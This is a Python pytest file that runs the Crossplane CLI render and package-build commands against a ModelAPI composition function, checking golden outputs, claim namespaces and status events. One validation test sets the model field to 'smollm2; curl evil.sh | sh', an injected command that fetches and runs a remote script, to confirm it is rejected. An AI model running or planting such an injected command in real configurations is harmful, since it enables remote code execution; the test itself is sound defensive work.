"""The real `crossplane render` (v2.2, in-process) against the running function: every
example in both XRD flavours, the observed stories, and the package build."""

import os
import pathlib
import subprocess

import pytest
import yaml

from tests.support import EXAMPLE_NAMES, ROOT, golden, need_tool, pods
from tests.support.server import serving

CROSSPLANE = os.environ.get("CROSSPLANE") or str(
    pathlib.Path(os.environ.get("MODELAPI_TOOLS", pathlib.Path.home() / ".cache/function-modelapi"))
    / "crossplane-v2.2.1/crossplane"
)


@pytest.fixture(scope="module")
def crossplane() -> str:
    return need_tool(CROSSPLANE, "the crossplane CLI (hack/install-crossplane.sh)")


@pytest.fixture(scope="module")
def functions_file(tmp_path_factory, crossplane) -> pathlib.Path:
    """examples/functions.yaml, pointed at a function served on a free port."""
    with serving() as address:
        doc = yaml.safe_load((ROOT / "examples/functions.yaml").read_text())
        doc["metadata"]["annotations"]["render.crossplane.io/runtime-development-target"] = address
        path = tmp_path_factory.mktemp("render") / "functions.yaml"
        path.write_text(yaml.safe_dump(doc))
        yield path


def crossplane_render(
    crossplane: str, functions: pathlib.Path, example: str, *flags: str, composition: str | None = None
) -> list[dict]:
    if composition is None:
        composition = "compositions/xmodelapi.yaml" if example == "claim" else "compositions/modelapi.yaml"
    out = subprocess.run(
        [crossplane, "render", f"examples/{example}/xr.yaml", composition, str(functions), *flags],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
    )
    assert out.returncode == 0, out.stderr
    return out.stdout


@pytest.mark.parametrize("example", EXAMPLE_NAMES)
def test_every_example_renders_as_its_golden_file(crossplane, functions_file, example):
    golden.check(f"crossplane/{example}.yaml", crossplane_render(crossplane, functions_file, example))


def test_a_production_platforms_composition_renders_as_its_golden_file(crossplane, functions_file):
    text = crossplane_render(
        crossplane, functions_file, "production", composition="examples/production/composition.yaml"
    )
    golden.check("crossplane/production-platform.yaml", text)
    xr = next(yaml.safe_load_all(text))
    assert xr["status"]["externalEndpoint"] == "https://llm.example.com/team-a/front-door"


def test_the_claim_objects_land_in_the_claims_namespace(crossplane, functions_file):
    docs = list(yaml.safe_load_all(crossplane_render(crossplane, functions_file, "claim")))
    xr, composed = docs[0], docs[1:]
    assert xr["kind"] == "XModelAPI"
    assert {d["metadata"]["namespace"] for d in composed} == {"team-b"}
    assert {d["metadata"]["name"] for d in composed} >= {"team-llm", "team-llm-client"}
    assert xr["status"]["endpoint"] == "http://team-llm.team-b.svc.cluster.local:8000"


STORIES = {
    # story: (phase, Ready condition of the XR, severity of the event told to the team)
    "pending": ("Pending", "False", "SEVERITY_NORMAL"),
    "ready": ("Ready", "True", "SEVERITY_NORMAL"),
    "failed": ("Failed", "False", "SEVERITY_WARNING"),
}


@pytest.mark.parametrize("example", ["dev-ollama", "in-cluster-ollama"])
@pytest.mark.parametrize("story", sorted(STORIES))
def test_observed_stories_set_phase_and_ready_condition(crossplane, functions_file, example, story):
    observed = ROOT / f"tests/fixtures/observed/{example}-{story}.yaml"
    text = crossplane_render(crossplane, functions_file, example, "-o", str(observed), "-x", "-r")
    golden.check(f"crossplane/{example}-{story}.yaml", text)
    docs = list(yaml.safe_load_all(text))
    xr = docs[0]
    phase, ready, severity = STORIES[story]
    assert xr["status"]["phase"] == phase
    assert xr["status"]["ready"] is (phase == "Ready")
    conditions = {c["type"]: c["status"] for c in xr["status"]["conditions"]}
    assert conditions["Ready"] == ready
    assert xr["spec"]["mode"] in ("Proxy", "Hosted")  # -x includes the full XR
    # The XR carried no status yet, so the phase is news: one event.
    results = [d for d in docs if d.get("kind") == "Result"]
    assert [r["severity"] for r in results] == [severity]
    status = xr["status"]
    want = f"ModelAPI is ready at {status['endpoint']}" if phase == "Ready" else f"{phase}: {status['message']}"
    assert results[0]["message"] == want


def test_a_bad_spec_gives_a_fatal_result_naming_the_field(crossplane, functions_file, tmp_path):
    bad = yaml.safe_load((ROOT / "examples/in-cluster-ollama/xr.yaml").read_text())
    bad["spec"]["serverConfig"]["model"] = "smollm2; curl evil.sh | sh"
    xr = tmp_path / "xr.yaml"
    xr.write_text(yaml.safe_dump(bad))
    out = subprocess.run(
        [crossplane, "render", str(xr), "compositions/modelapi.yaml", str(functions_file)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
    )
    assert out.returncode != 0
    assert "spec.serverConfig.model" in out.stderr


def test_the_package_builds(crossplane, tmp_path):
    xpkg = tmp_path / "function-modelapi.xpkg"
    out = subprocess.run(
        [crossplane, "xpkg", "build", "--package-root=package", "--examples-root=examples", "-o", str(xpkg)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
    )
    assert out.returncode == 0, out.stderr
    assert xpkg.stat().st_size > 0


@pytest.mark.parametrize(
    ("story", "phase", "message"),
    [
        ("pulling", "Pending", "Pulling model smollm2:135m (since 2026-11-26T10:00:03Z)"),
        ("oom", "Failed", "Container ollama is crash looping: last exit OOMKilled (exit 137)"),
    ],
)
def test_pods_required_from_crossplane_explain_the_status(crossplane, functions_file, tmp_path, story, phase, message):
    required = tmp_path / "pods.yaml"
    required.write_text(yaml.safe_dump(pods.hosted(story)))
    observed = ROOT / "tests/fixtures/observed/in-cluster-ollama-pending.yaml"
    text = crossplane_render(crossplane, functions_file, "in-cluster-ollama", "-o", str(observed), "-e", str(required))
    status = next(yaml.safe_load_all(text))["status"]
    assert status["phase"] == phase
    assert status["message"].startswith(message)
